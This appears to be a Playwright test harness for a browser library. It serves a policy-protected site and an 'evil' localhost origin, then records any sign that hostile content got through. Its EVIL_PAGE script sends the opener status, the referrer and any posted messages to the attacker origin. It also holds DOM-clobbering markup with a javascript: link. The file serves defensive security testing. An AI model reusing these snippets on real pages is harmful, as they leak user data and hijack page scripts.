import { mkdtempSync, readFileSync, rmSync, statSync } from "node:fs";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { extname, join, normalize } from "node:path";
import type { Page } from "playwright-core";
import { buildPages } from "../node/build-pages.ts";
import { type LaunchedBrowser, launchChromium } from "../node/launch.ts";
import { watchProblems } from "../node/tabs.ts";

/**
 * What the project promises to work under, word for word. `blob:` is its one relaxation: stored pictures and sound are
 * drawn from there.
 */
export const POLICY =
  "default-src 'self'; script-src 'self'; style-src 'self'; require-trusted-types-for 'script'; img-src 'self' blob:; media-src 'self' blob:";

/** A site with hostile content in it, the origin its attacker sees, and a browser. */
export interface HostileStage {
  /** The site under {@link POLICY}, and the same without any policy, where nothing but the library holds. */
  readonly sites: Readonly<Record<Protection, string>>;
  readonly evil: string;
  /** What the attacker's origin was asked for. */
  readonly asked: readonly string[];
  readonly browser: LaunchedBrowser;
  close(): Promise<void>;
}

/** Whether the page has a policy that would stop what the library lets through. */
export type Protection = "strict" | "none";

/** A page with everything that would show that an attacker got through. */
export interface WatchedPage {
  readonly page: Page;
  /** What got through so far, one line each; empty when nothing did. */
  damage(): Promise<readonly string[]>;
}

const types: Readonly<Record<string, string>> = {
  ".js": "text/javascript",
  ".mjs": "text/javascript",
  ".css": "text/css",
};

export async function startHostileStage(): Promise<HostileStage> {
  const folder = mkdtempSync(join(tmpdir(), "holdpoint-hostile-"));
  await buildPages(folder, {
    hostile: new URL("./hostile-page.fixture.tsx", import.meta.url),
    host: new URL("./embedding-page.fixture.ts", import.meta.url),
  });
  const asked: string[] = [];
  const servers: Server[] = [];
  const serve = async (host: string, answer: (path: string, response: ServerResponse) => void): Promise<string> => {
    const server = createServer((request: IncomingMessage, response) => answer(request.url ?? "/", response));
    servers.push(server);
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    return `http://${host}:${(server.address() as AddressInfo).port}`;
  };
  const evil = await serve("localhost", (path, response) => {
    asked.push(path);
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("content-type", "text/html").end(path.startsWith("/page") ? EVIL_PAGE : "");
  });
  const site = (policy: string | undefined) =>
    serve("127.0.0.1", (path, response) => {
      const { pathname } = new URL(path, "http://x");
      if (policy !== undefined) response.setHeader("content-security-policy", policy);
      if (pathname === "/away") return void response.writeHead(302, { location: `${evil}/page` }).end();
      const html = pages[pathname];
      const file = join(folder, normalize(pathname));
      if (html === undefined && !statSync(file, { throwIfNoEntry: false })?.isFile()) {
        return void response.writeHead(pathname === "/favicon.ico" ? 204 : 404).end();
      }
      response.setHeader("content-type", html === undefined ? (types[extname(file)] ?? "text/plain") : "text/html");
      response.end(html ?? readFileSync(file));
    });
  const sites = { strict: await site(`${POLICY}; frame-src 'self' ${evil}`), none: await site(undefined) };
  const browser = await launchChromium();
  return {
    sites,
    evil,
    asked,
    browser,
    async close() {
      await browser.close();
      for (const server of servers) {
        server.closeAllConnections();
        server.close();
      }
      rmSync(folder, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
    },
  };
}

/** Opens a page in storage of its own, and watches it from before its first script. */
export async function openWatched(stage: HostileStage, protection: Protection, path: string): Promise<WatchedPage> {
  const context = await stage.browser.context.browser()?.newContext();
  if (context === undefined) throw new Error("The browser is gone.");
  const page = await context.newPage();
  const problems = watchProblems(page);
  const seen: string[] = [];
  const from = stage.asked.length;
  context.on("page", (opened) => seen.push(`a window opened: ${opened.url()}`));
  page.on("dialog", (dialog) => {
    seen.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("download", (download) => seen.push(`a download: ${download.suggestedFilename()}`));
  page.on("framenavigated", (frame) => {
    if (!frame.url().startsWith(stage.sites[protection])) seen.push(`it went to ${frame.url()}`);
  });
  page.on("response", (response) => {
    if (response.status() >= 400) seen.push(`${response.status()} ${response.url()}`);
  });
  page.on("request", (request) => {
    const isOwn = request.url().startsWith(stage.sites[protection]) || /^blob:/.test(request.url());
    if (!isOwn) seen.push(`a request left for ${request.url().slice(0, 120)}`);
  });
  await page.exposeFunction("CANARY", () => void seen.push("script ran"));
  await page.addInitScript(() => {
    const broken: string[] = [];
    Object.assign(globalThis, { brokenPolicy: broken, ownKeys: Reflect.ownKeys(Object.prototype).length });
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sample }) =>
      broken.push(`${violatedDirective} ${blockedURI} ${sample}`),
    );
  });
  await page.goto(stage.sites[protection] + path);
  return {
    page,
    async damage() {
      const inside = await page.evaluate(() => {
        const { brokenPolicy, ownKeys } = globalThis as unknown as { brokenPolicy: string[]; ownKeys: number };
        const isPolluted = Reflect.ownKeys(Object.prototype).length !== ownKeys || "admin" in {};
        return [...brokenPolicy.map((what) => `policy: ${what}`), ...(isPolluted ? ["a prototype changed"] : [])];
      });
      const asked = stage.asked.slice(from).map((path) => `the attacker was asked for ${path}`);
      return [...seen, ...asked, ...problems, ...inside];
    },
  };
}

/** Tells the attacker who opened it, and what it is told. */
const EVIL_PAGE = `<!doctype html><title>evil</title><script>
  fetch("/opened?opener=" + (window.opener !== null) + "&referrer=" + encodeURIComponent(document.referrer));
  addEventListener("message", (event) => fetch("/heard?" + encodeURIComponent(JSON.stringify(event.data))));
  if (parent !== window) parent.postMessage({ holdpoint: "embed", v: 1, type: "ready" }, "*");
</script>`;

/** With elements that are named like what a careless script would look for by name. */
const CLOBBERING = `<div data-own>
  <form id="holdpoint" name="holdpoint"><input name="config" value="1"><input name="origins" value="*"></form>
  <a id="HOLDPOINT_CONFIG" href="javascript:CANARY()"></a><a id="labels"></a>
  <form id="trustedTypes"><input name="defaultPolicy"></form>
</div>`;

const page = (body: string): string =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>page</title>${body}`;

const pages: Readonly<Record<string, string>> = {
  "/hostile.html": page(
    `<link rel="stylesheet" href="/hostile.css"><script type="module" src="/hostile.js"></script><script type="module" src="/holdpoint/define.js"></script></head><body>${CLOBBERING}</body></html>`,
  ),
  "/host.html": page(`<script type="module" src="/host.js"></script></head><body></body></html>`),
};
